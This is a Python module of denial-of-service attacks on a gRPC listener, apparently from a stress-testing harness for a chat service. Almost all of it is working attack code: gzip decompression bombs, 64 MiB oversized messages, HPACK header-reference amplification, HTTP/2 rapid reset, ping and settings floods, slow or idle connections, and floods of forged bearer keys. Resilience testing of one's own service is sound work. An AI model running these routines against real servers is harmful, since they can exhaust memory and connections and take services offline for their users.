"""Attacks on the gRPC listener."""

import asyncio
import gzip
import itertools
import struct

from attack.target import MEBIBYTE, Target, data, flooding, frame
from support.http2_peer import DATA, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, header_block

CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
COMPLETE = "/togetherchat.v1.ChatService/Complete"
GZIP = ("grpc-encoding", "gzip")
BOMB = gzip.compress(b"\x0a" + b"\x80\x80\x80\x1e" + bytes(60 * MEBIBYTE), 9)
MESSAGE_BYTES = 64 * MEBIBYTE
WINDOW = frame(SETTINGS, payload=struct.pack("!HI", 4, 2**31 - 1)) + frame(
    WINDOW_UPDATE, payload=struct.pack("!I", 2**30)
)


def streams():
    return itertools.count(1, 2)


async def _bombs(target: Target, method: str, *headers) -> None:
    async def attack(number):
        async with flooding(target, number) as flood:
            for stream in itertools.islice(streams(), 16):
                flood.writer.write(
                    frame(HEADERS, 4, stream, header_block(method, (GZIP, *headers)))
                    + data(stream, BOMB, compressed=True)
                )
                await flood.drain()
            await asyncio.sleep(0.5)

    await target.repeat(attack, parallel=min(100, target.connections))


async def gzip_bombs_to_health(target: Target) -> None:
    await _bombs(target, CHECK)


async def gzip_bombs_to_reflection(target: Target) -> None:
    await _bombs(target, REFLECT)


async def gzip_bombs_to_complete(target: Target) -> None:
    await _bombs(target, COMPLETE)


async def gzip_bombs_with_a_key(target: Target) -> None:
    await _bombs(target, COMPLETE, ("authorization", f"Bearer {target.key}"))


async def _large_messages(target: Target, method: str, *headers) -> None:
    async def attack(number):
        async with flooding(target, number) as flood:
            flood.writer.write(frame(HEADERS, 4, 1, header_block(method, headers)))
            flood.writer.write(frame(DATA, 0, 1, struct.pack("!BI", 0, MESSAGE_BYTES)))
            piece = frame(DATA, 0, 1, bytes(2**14))
            for _ in range(MESSAGE_BYTES // 2**14):
                if target.over or ("status 14" in target.seen and flood.closed.is_set()):
                    break
                flood.writer.write(piece)
                await flood.drain()

    await target.repeat(attack, parallel=min(100, target.connections))


async def large_messages_to_health(target: Target) -> None:
    await _large_messages(target, CHECK)


async def large_messages_to_reflection(target: Target) -> None:
    await _large_messages(target, REFLECT)


async def large_messages_to_complete(target: Target) -> None:
    await _large_messages(target, COMPLETE)


async def header_references(target: Target) -> None:
    """Refer a thousand times to one long header, in each of many calls, and read no response."""
    name = b"x" * 3900
    table = b"\x40" + b"\x7f" + _rest(len(name)) + name + b"\x01v"
    references = b"\xbe" * 16_000

    async def attack(number):
        async with target.connected(target.grpc, number) as (_, writer):
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS))
            for stream in streams():
                if target.over or stream > 2 * target.rounds * 500:
                    break
                block = (table if stream == 1 else b"") + header_block(CHECK) + references
                writer.write(frame(HEADERS, 5, stream, block[:16_384]))
                await writer.drain()

    await target.repeat(attack, parallel=3)


async def watches(target: Target) -> None:
    async def attack(number):
        async with flooding(target, 0) as flood:
            for stream in itertools.islice(streams(), 100):
                flood.call(stream, WATCH)
                await flood.drain()
            await asyncio.sleep(min(5.0, target.seconds))

    await target.repeat(attack, parallel=min(10, target.connections))


async def calls_without_a_message(target: Target) -> None:
    """Open calls to health, and never send their message."""

    async def attack(number):
        async with flooding(target, number % 5) as flood:
            for stream in itertools.islice(streams(), 100):
                flood.writer.write(frame(HEADERS, 4, stream, header_block(CHECK)))
                await flood.drain()
            await asyncio.sleep(min(5.0, target.seconds))

    await target.repeat(attack, parallel=min(10, target.connections))


async def rapid_reset(target: Target) -> None:
    async def attack(number):
        async with flooding(target, number) as flood:
            for stream in streams():
                if target.over or stream > 2 * target.rounds * 2000:
                    break
                flood.writer.write(
                    frame(HEADERS, 5, stream, header_block(COMPLETE))
                    + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
                )
                if stream % 100 == 1:
                    await flood.drain()

    await target.repeat(attack, parallel=4)


async def pings_and_settings(target: Target) -> None:
    async def attack(number):
        async with flooding(target, number) as flood:
            for count in range(target.rounds * 2000):
                if target.over:
                    break
                flood.writer.write(frame(PING, payload=struct.pack("!Q", count)) + frame(SETTINGS))
                if count % 100 == 0:
                    await flood.drain()

    await target.repeat(attack, parallel=4)


async def idle_connections(target: Target) -> None:
    await _connections(target, target.grpc, b"")


async def connections_that_shake_hands(target: Target) -> None:
    await _connections(target, target.grpc, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS))


async def _connections(target: Target, address: str, first: bytes) -> None:
    async def attack(number):
        async with target.connected(address, number) as (reader, writer):
            writer.write(first)
            while await reader.read(4096):
                pass
            target.seen["closed"] += 1
            await asyncio.sleep(0.2)

    await target.repeat(attack, parallel=target.connections)


async def bad_keys(target: Target) -> None:
    async def attack(number):
        async with flooding(target, number) as flood:
            for stream in itertools.islice(streams(), 500):
                if target.over:
                    break
                key = f"tc_{number:06x}{stream:06x}_{'x' * 43}"
                flood.call(stream, COMPLETE, b"", ("authorization", f"Bearer {key}"))
                if stream % 50 == 1:
                    await flood.drain()
                    await asyncio.sleep(0.01)

    await target.repeat(attack, parallel=8)


def _rest(length: int) -> bytes:
    """Return the rest of an integer with a prefix of seven bits."""
    number, coded = length - 127, bytearray()
    while number >= 128:
        coded.append(number % 128 + 128)
        number //= 128
    coded.append(number)
    return bytes(coded)
